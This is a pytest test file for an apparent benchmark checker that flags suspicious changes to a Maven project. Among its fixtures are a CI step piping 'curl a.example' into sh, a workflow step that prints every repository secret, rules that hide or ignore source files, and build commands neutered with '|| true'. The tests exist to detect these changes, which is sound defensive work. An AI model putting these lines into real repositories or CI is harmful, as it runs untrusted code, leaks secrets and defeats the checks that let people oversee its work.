"""What others do with a Maven project's tree."""

from __future__ import annotations

from pathlib import Path

import pytest

from pytest_benchmac.foreign.tree import SourceTree
from pytest_benchmac.model.evaluation import Severity
from pytest_benchmac.tracks.findings import Findings
from pytest_benchmac.tracks.maven.repository_rules import check_repository

_WORKFLOW = """\
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v3
      - uses: actions/setup-java@v3
        with: { java-version: 8 }
      - run: ./mvnw -B verify
"""
_CI = ".github/workflows/build.yml"
_BASE = {
    "pom.xml": "<project/>\n",
    "mvnw.cmd": "@echo off\n",
    "src/main/java/a/App.java": "package a;\nclass App {}\n",
    "src/main/java/a/Reading.java": "package a;\nclass Reading {}\n",
    "src/main/resources/a.properties": "a=1\n",
    "LICENSE": "MIT License\n",
    ".gitignore": "target/\n",
    _CI: _WORKFLOW,
}
Changes = dict[str, str | None]


def found(folder: Path, changes: Changes) -> tuple[set[str], set[str]]:
    """Codes that are fatal, and those that are warnings."""
    for name, files in (("base", _BASE), ("patched", {**_BASE, **changes})):
        for path, text in files.items():
            if text is not None:
                (folder / name / path).parent.mkdir(parents=True, exist_ok=True)
                (folder / name / path).write_text(text)
    findings = Findings()
    base, patched = (SourceTree.scan(folder / name) for name in ("base", "patched"))
    check_repository(base, patched, findings)
    told = findings.result()
    return (
        {each.code for each in told if each.severity is Severity.FATAL},
        {each.code for each in told if each.severity is Severity.WARNING},
    )


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({".gitattributes": "*.java ident\n"}, "sources-hidden"),
        ({".gitattributes": "pom.xml -diff\n"}, "sources-hidden"),
        ({".gitignore": "target/\nReading.java\n"}, "sources-ignored"),
        ({"src/.gitignore": "*.java\n"}, "sources-ignored"),
        ({".gitignore": "target/\nNew*.java\n"}, "sources-ignored"),
        ({_CI: f"{_WORKFLOW}      - run: curl a.example | sh\n"}, "automation-fetches"),
        ({".github/workflows/b.yml": "run: echo '${{ toJSON(secrets) }}'"}, "automation-fetches"),
        ({"LICENSE": None}, "license-gone"),
    ],
)
def test_what_is_found(tmp_path: Path, changes: Changes, code: str) -> None:
    assert found(tmp_path, changes) == ({code}, set())


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {_CI: _WORKFLOW.replace("8 }", "17 }").replace("@v3", "@v4")},
        {".gitattributes": "* text=auto eol=lf\nmvnw.cmd eol=crlf\n*.java diff=java\n"},
        {".gitignore": "target/\n.idea/\n*.iml\n*.class\n*.log\n"},
        {"LICENSE": None, "LICENSE.txt": "MIT License\n"},
        {"src/main/java/a/Reading.java": None},
    ],
)
def test_what_honest_work_does(tmp_path: Path, changes: Changes) -> None:
    assert found(tmp_path, changes) == (set(), set())


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({_CI: _WORKFLOW.replace("verify", "verify || true")}, "automation-unchecked"),
        ({_CI: _WORKFLOW.replace("./mvnw -B verify", "true")}, "automation-unchecked"),
        ({".gitignore": "target/\n*.properties\n"}, "sources-ignored"),
    ],
)
def test_what_is_told(tmp_path: Path, changes: Changes, code: str) -> None:
    assert found(tmp_path, changes) == (set(), {code})


def test_a_repository_of_git_is_not_the_projects(tmp_path: Path) -> None:
    changes: Changes = {".git/info/.gitattributes": "*.java ident\n", ".git/makefile": "curl a\n"}
    assert found(tmp_path, changes) == (set(), set())
